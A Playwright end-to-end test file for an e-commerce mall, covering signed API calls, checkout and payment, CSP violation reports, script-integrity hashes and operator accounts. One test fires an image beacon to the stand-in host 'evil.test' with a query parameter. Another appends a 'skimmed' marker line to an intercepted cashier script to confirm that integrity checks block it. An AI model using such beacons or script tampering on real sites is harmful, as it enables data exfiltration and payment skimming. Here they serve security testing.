/** A mall that demands signed calls; what policies of pages refuse, and who hears of it; the cashier's scripts; accounts of operators. */
import { desc } from 'drizzle-orm';
import type { BrowserContext, Page } from 'playwright/test';
import { footprint } from '../../../server/orders/favourite/tables.ts';
import { orders } from '../../../server/orders/tables.ts';
import { placeOrder } from '../steps/cashier-steps.ts';
import { openAwake, shopper, withoutCoupon } from '../steps/checkout-steps.ts';
import { signInOperator, tells } from '../steps/designer-steps.ts';
import { saleable, startOrderMall, type OrderMall } from '../steps/order-steps.ts';
import { plainGoods, SHOPPER } from '../steps/shop-steps.ts';
import { expect, expectAccessible, PROVE, test } from '../support.ts';

let signed: OrderMall;
test.beforeAll(async () => {
  signed = await startOrderMall({ SIGN_SECRET: 'a secret of the server' });
});
test.afterAll(() => signed.stop());

test(
  'where calls must be signed a guest fills the cart, signs in, orders and pays; strangers are refused',
  PROVE,
  async ({ page, context }) => {
    const [goods] = await saleable(signed);
    const { item_id = 0, item_name: name = '', shop_id = 0 } = goods ?? {};
    const calls: string[] = [];
    page.on('request', (request) => calls.push(`${request.url()}?${request.postData() ?? ''}`));
    await page.goto(`${signed.url}/items/${item_id}`);
    await page.getByRole('button', { name: '加入购物车' }).click();
    await expect(page.getByText('成功加入购物车')).toBeVisible();
    await page.goto(`${signed.url}/cart`);
    const number = page.getByRole('spinbutton', { name });
    await page.getByRole('button', { name: '增加' }).click();
    await expect(number).toHaveValue('2');
    await expect(page.getByText('已选 2 件')).toBeVisible();
    const api = `${signed.url}/api/h5app/wxapp`;
    const stranger = await context.request.post(`${api}/cart`, { form: { item_id: String(item_id), num: '1' } });
    expect(((await stranger.json()) as { data: object }).data).toMatchObject({ status_code: 403, message: '签名错误' });

    await page.getByRole('link', { name: '去结算（2件）' }).last().click();
    await page.getByLabel('手机号码').fill(SHOPPER.mobile);
    await page.getByLabel('密码').fill(SHOPPER.password);
    await page.getByRole('button', { name: '登录' }).click();
    await expect(page).toHaveURL(new RegExp(`/cart/checkout\\?mode=cart&id=${shop_id}$`));
    await withoutCoupon(page);
    await page.getByRole('button', { name: '提交订单' }).click();
    await expect(page).toHaveURL(/\/cashier\?order_id=\d{16}$/);
    await page.getByRole('radio', { name: '储值支付' }).check();
    await page.getByRole('button', { name: /^立即支付/ }).click();
    await expect(page.getByRole('heading', { name: '支付成功' })).toBeVisible();
    const [order] = await signed.db.select().from(orders).orderBy(desc(orders.order_id)).limit(1);
    expect(order?.pay_status).toBe('PAYED');

    // A member's look at goods is told by the loader itself.
    const before = await signed.db.$count(footprint);
    await page.goto(`${signed.url}/items/${item_id}`);
    await expect.poll(() => signed.db.$count(footprint)).toBe(before + 1);
    expect(calls.filter((call) => call.includes('sign=page.')).length).toBeGreaterThan(4);
    expect(calls.join('\n')).not.toContain('a secret of the server');
  },
);

test('what a policy refuses reaches the office', PROVE, async ({ page, messages }) => {
  messages.allow(/evil\.test/);
  await page.goto('/items?keywords=geheim');
  const reported = page.waitForRequest((request) => request.url().endsWith('/csp-report'));
  await page.evaluate(() => {
    new Image().src = 'http://evil.test/pixel.png?who=me';
  });
  await reported;
  await signInOperator(page);
  await page.goto('/edit/csp-reports');
  const row = page.getByRole('row').filter({ hasText: 'http://evil.test/pixel.png' });
  await expect(row).toContainText('/items');
  await expect(row).toContainText('图片');
  await expect(page.getByRole('main')).not.toContainText('who=me');
  await expect(page.getByRole('main')).not.toContainText('geheim');
  await expectAccessible(page);
});

const isSkimmed = (page: Page): Promise<boolean> => page.evaluate(() => 'skimmed' in globalThis);

/** Opens the cashier of a new order of the demo shopper. */
async function openCashier(page: Page, context: BrowserContext): Promise<void> {
  const url = process.env.MALL_URL ?? '';
  const member = await shopper(context);
  await member.fill([]);
  const token = (await context.cookies(url)).find(({ name }) => name === 'ECSHOPX_TOKEN')?.value ?? '';
  const { order_id } = await placeOrder({ url }, context.request, {
    headers: { authorization: `Bearer ${token}` },
  });
  await page.goto(`/cashier?order_id=${order_id}`);
}

test(
  'the cashier names its scripts with their hashes, and one that was altered does not run',
  PROVE,
  async ({ page, context, messages }) => {
    await openCashier(page, context);
    const pay = page.getByRole('button', { name: /^立即支付/ });
    await expect(page.locator('[data-ready]').filter({ has: pay })).toBeVisible();
    const listed = await page.evaluate(() => {
      const map = document.querySelector('script[type="importmap"]')?.textContent ?? '{}';
      return (JSON.parse(map) as { integrity?: Record<string, string> }).integrity ?? {};
    });
    const loaded = await page.evaluate(() =>
      performance
        .getEntriesByType('resource')
        .map((entry) => new URL(entry.name).pathname)
        .filter((path) => path.endsWith('.js')),
    );
    expect(loaded.length).toBeGreaterThan(3);
    expect(loaded.filter((path) => listed[path] === undefined)).toEqual([]);

    // A script that only another script loads, with a line more than was built.
    messages.allow(/integrity|dynamically imported|digest/i);
    await page.route(/\/assets\/(?:shop|Cashier\w*)-[\w-]+\.js$/, async (route) => {
      const answer = await route.fetch();
      await route.fulfill({ response: answer, body: `${await answer.text()}\n;globalThis.skimmed = true;` });
    });
    const [goods] = await plainGoods(context.request);
    await openAwake(page, `/items/${goods?.item_id}`);
    expect(await isSkimmed(page)).toBe(true);
    await openCashier(page, context);
    await pay.hover();
    await expect.poll(() => messages.seen(/integrity|digest/i)).toBeGreaterThan(0);
    await page.unrouteAll({ behavior: 'wait' });
    expect(await isSkimmed(page)).toBe(false);
  },
);

test(
  'an operator adds an account in a role, gives it another, locks it when asked, and opens it again',
  PROVE,
  async ({ page }) => {
    await signInOperator(page, signed.url);
    await page.goto(`${signed.url}/edit/operators`);
    await page.getByRole('button', { name: '添加操作员' }).click();
    const adding = page.getByRole('dialog', { name: '添加操作员' });
    await adding.getByLabel('账号').fill('colleague');
    await adding.getByLabel('初始密码').fill('Carpenter2026');
    await adding.getByRole('checkbox', { name: '财务' }).check();
    await expectAccessible(page);
    await tells(page, '操作员已添加', () => adding.getByRole('button', { name: '保存' }).click());
    const row = page.getByRole('row').filter({ hasText: 'colleague' });
    await expect(row).toContainText('财务');
    await row.getByRole('button', { name: '编辑 colleague' }).click();
    const choosing = page.getByRole('dialog', { name: '编辑「colleague」' });
    await choosing.getByRole('checkbox', { name: '客服' }).check();
    await tells(page, '已保存，立即生效', () => choosing.getByRole('button', { name: '保存' }).click());
    await expect(row).toContainText('客服、财务');
    await expect(page.getByRole('row').filter({ hasText: '当前账号' })).toContainText('operator');
    await row.getByRole('button', { name: '锁定colleague' }).click();
    const question = page.getByRole('dialog', { name: '提示' });
    await expect(question).toContainText('锁定账号「colleague」');
    await tells(page, '账号已锁定，其所有登录已结束', () => question.getByRole('button', { name: '锁定' }).click());
    await expect(row).toContainText('已锁定');
    await expectAccessible(page);
    await tells(page, '账号已解锁', () => row.getByRole('button', { name: '解锁colleague' }).click());
    await expect(row).toContainText('正常');
  },
);
